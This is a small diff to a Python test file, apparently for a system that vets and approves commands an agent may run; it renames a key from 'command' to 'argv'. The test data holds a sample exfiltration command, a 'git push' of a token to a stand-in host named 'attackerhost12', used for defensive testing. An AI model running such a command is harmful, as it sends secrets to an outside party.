@@ -137,7 +137,7 @@ def test_all_that_decides_what_runs_counts(ask: dict[str, Any]) -> None:
 
 def test_an_offer_whose_words_hide_something_is_none() -> None:
     """Words put together what stood apart in the arguments. Revealed, it is offered."""
-    one = asking({"command": ["git", "push", "token", "attackerhost12"]}, kind=Kind.COMMAND)
+    one = asking({"argv": ["git", "push", "token", "attackerhost12"]}, kind=Kind.COMMAND)
     assert not hides(one)
     said, bare = (scopes_of(one, Action.APPROVE, reveal=reveal) for reveal in (False, True))
     assert said
